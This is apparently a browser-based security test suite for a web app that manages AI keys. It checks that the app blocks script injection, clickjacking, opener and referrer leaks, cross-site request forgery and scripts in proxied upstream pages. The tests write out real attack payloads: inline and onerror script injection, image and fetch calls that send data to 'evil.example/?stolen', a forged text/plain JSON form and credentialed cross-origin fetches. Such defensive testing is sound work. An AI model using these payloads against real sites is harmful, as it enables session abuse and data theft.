import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { sharedBrowser } from '../helpers/browser';
import { signIn } from '../helpers/http';
import { ADMIN, type RunningServer, startServer } from '../helpers/server';

let server: RunningServer;
const browser = sharedBrowser();

beforeAll(async () => {
  server = await startServer({ firstAdmin: true });
});

afterAll(async () => {
  await server.stop();
  server.removeData();
});

/** A browser in which the admin is signed in. */
async function adminsBrowser(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.goto(`${server.url}/sign-in`);
  await page.getByLabel('Email').fill(ADMIN.email);
  await page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL((url) => !url.pathname.startsWith('/sign-in'));
  return { context, page };
}

/** An attacker's site: `localhost` is another site than 127.0.0.1; another port is only another origin. */
async function serveAttacker(listener: RequestListener): Promise<{ otherSite: string; otherOrigin: string }> {
  const attacker = createServer(listener);
  await new Promise<void>((resolve) => attacker.listen(0, resolve));
  onTestFinished(() => {
    attacker.closeAllConnections();
    attacker.close();
  });
  const { port } = attacker.address() as AddressInfo;
  return { otherSite: `http://localhost:${port}`, otherOrigin: `http://127.0.0.1:${port}` };
}

const html =
  (body: string): RequestListener =>
  (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>${body}`);
  };

describe('the content security policy, in a real browser', () => {
  it('blocks foreign scripts and styles, eval, and connections to other hosts', async () => {
    const { page } = await adminsBrowser();
    await page.goto(`${server.url}/me/ai-keys`);
    const result = await page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violated.push(effectiveDirective),
      );
      const add = (tag: string, change: (element: HTMLElement) => void) => {
        const element = document.createElement(tag);
        change(element);
        document.body.append(element);
      };
      add('script', (script) => {
        script.textContent = 'window.injected = true';
      });
      add('script', (script) => script.setAttribute('src', 'https://evil.example/x.js'));
      add('div', (div) => {
        div.innerHTML = '<img src="x:" onerror="window.injected = true">';
      });
      add('style', (style) => {
        style.textContent = 'body { display: none }';
      });
      add('base', (base) => base.setAttribute('href', 'https://evil.example/'));
      add('iframe', (frame) => frame.setAttribute('src', 'https://evil.example/'));
      add('object', (object) => object.setAttribute('data', 'https://evil.example/x.swf'));
      add('img', (image) => image.setAttribute('src', 'https://evil.example/?stolen'));
      const reached = await fetch('https://evil.example/?stolen').then(
        () => true,
        () => false,
      );
      setTimeout('window.evaluated = true'); // the page's own way to evaluate text; a debugger's is let through
      await new Promise((resolve) => setTimeout(resolve, 200));
      return {
        violated: [...new Set(violated)].sort(),
        injected: 'injected' in window,
        reached,
        evaluated: 'evaluated' in window,
        hidden: getComputedStyle(document.body).display === 'none',
        base: document.baseURI,
        cookies: document.cookie,
      };
    });
    expect(result).toEqual({
      violated: [
        'base-uri',
        'connect-src',
        'frame-src',
        'img-src',
        'object-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ],
      injected: false,
      reached: false,
      evaluated: false,
      hidden: false,
      base: `${server.url}/me/ai-keys`,
      cookies: '',
    });
  });

  it('prevents framing by other pages', async () => {
    const { context } = await adminsBrowser();
    const { otherSite, otherOrigin } = await serveAttacker(
      html(`<iframe src="${server.url}/me/ai-keys"></iframe>`),
    );
    for (const attacker of [otherSite, otherOrigin]) {
      const page = await context.newPage();
      await page.goto(attacker);
      await page.waitForTimeout(300);
      const [, frame] = page.frames();
      expect(await frame?.evaluate(() => document.body.textContent).catch(() => ''), attacker).not.toContain(
        'Your keys',
      );
    }
  });

  it('isolates the page from its opener, and sends no referrer', async () => {
    const { context, page } = await adminsBrowser();
    const referrers: (string | undefined)[] = [];
    const { otherSite } = await serveAttacker((request, response) => {
      referrers.push(request.headers.referer);
      html('<h1>elsewhere</h1>')(request, response);
    });
    await page.goto(`${server.url}/me/ai-keys?secret=1`);
    await page.evaluate((url) => {
      location.href = url;
    }, otherSite);
    await page.waitForURL(`${otherSite}/`);
    expect(referrers[0]).toBeUndefined();

    const opener = await context.newPage();
    await opener.goto(otherSite);
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      opener.evaluate((url) => {
        Object.assign(window, { opened: open(url) });
      }, `${server.url}/me/ai-keys`),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    expect(await opener.evaluate(() => (window as unknown as { opened: Window }).opened.closed)).toBe(true);
  });
});

describe('another site, in a real browser', () => {
  async function countAdminKeys(): Promise<number> {
    const admin = await signIn(server.url, ADMIN);
    return ((await admin.query('keys.mine')).data as unknown[]).length;
  }

  it('cannot request a key from the admin’s browser, neither by a form nor by a script', async () => {
    const { context } = await adminsBrowser();
    const target = `${server.url}/me/ai-keys/request/echo`;
    const api = `${server.url}/api/trpc/keys.request`;
    const body = JSON.stringify({ tool: 'echo', environment: 'development', purpose: 'an attack' });
    const attack = `
      <form method="post" action="${target}" target="sink">
        <input name="environment" value="development"><input name="purpose" value="an attack">
      </form>
      <form method="post" action="${api}" enctype="text/plain" target="sink">
        <input name='${body.slice(0, -1)}, "x' value='":1}'>
      </form>
      <iframe name="sink"></iframe>
      <script>
        for (const form of document.forms) form.submit();
        for (const mode of ['no-cors', 'cors'])
          for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded'])
            fetch(${JSON.stringify(api)}, { method: 'POST', mode, credentials: 'include', headers: { 'content-type': type }, body: ${JSON.stringify(body)} }).catch(() => 0);
      </script>`;
    const posts = () =>
      server
        .output()
        .split('\n')
        .filter((line) => line.includes('"method":"POST"') && !line.includes('/sign-in'))
        .map((line) => (JSON.parse(line) as { status: number }).status);
    const before = await countAdminKeys();
    const { otherSite, otherOrigin } = await serveAttacker(html(attack));
    for (const attacker of [otherSite, otherOrigin]) {
      const page = await context.newPage();
      const earlier = posts().length;
      await page.goto(attacker);
      await expect.poll(() => posts().length - earlier, { timeout: 5_000 }).toBeGreaterThanOrEqual(4);
      // The browser sent them; the server refused them.
      expect(new Set(posts().slice(earlier)), attacker).toEqual(new Set([403]));
    }
    expect(await countAdminKeys()).toBe(before);
  });

  it('cannot read responses of the API or pages, although the browser sends the cookie', async () => {
    const { context } = await adminsBrowser();
    const { otherOrigin } = await serveAttacker(html('<h1>elsewhere</h1>'));
    const page = await context.newPage();
    await page.goto(otherOrigin);
    for (const path of ['/api/trpc/keys.mine', '/me/ai-keys', '/me/ai-keys.data']) {
      const read = await page.evaluate(
        (url) =>
          fetch(url, { credentials: 'include' }).then(
            (response) => response.text(),
            () => 'refused',
          ),
        server.url + path,
      );
      expect([path, read]).toEqual([path, 'refused']);
    }
  });
});

describe('an HTML response of an upstream, in a real browser', () => {
  it('runs no script in the session of someone who opens it', async () => {
    let ran = 0;
    const { otherOrigin } = await serveAttacker((request, response) => {
      if (request.url === '/ran') ran++;
      html(`<script>fetch('http://${otherAddress}/ran', { mode: 'no-cors' })</script>`)(request, response);
    });
    const otherAddress = new URL(otherOrigin).host;
    const admin = await signIn(server.url, ADMIN);
    const made = await admin.mutate('tools.create', {
      slug: 'pages',
      displayName: 'Pages',
      dialect: 'generic',
      upstreamUrl: otherOrigin,
      needsCredential: false,
      requiresApproval: false,
    });
    expect(made.status).toBe(200);
    const issued = await admin.mutate('keys.request', {
      tool: 'pages',
      environment: 'development',
      purpose: 'an attack',
    });
    const { rawKey } = issued.data as { rawKey: string };
    const { page } = await adminsBrowser();
    const refused: string[] = [];
    page.on('console', (message) => refused.push(message.text()));
    await page.goto(`${server.url}/gateway/pages/x?key=${rawKey}`);
    await expect.poll(() => refused.join()).toContain('sandboxed');
    expect(ran).toBe(0);
    // The same page from its own server does run it.
    await page.goto(otherOrigin);
    await expect.poll(() => ran).toBe(1);
  });
});
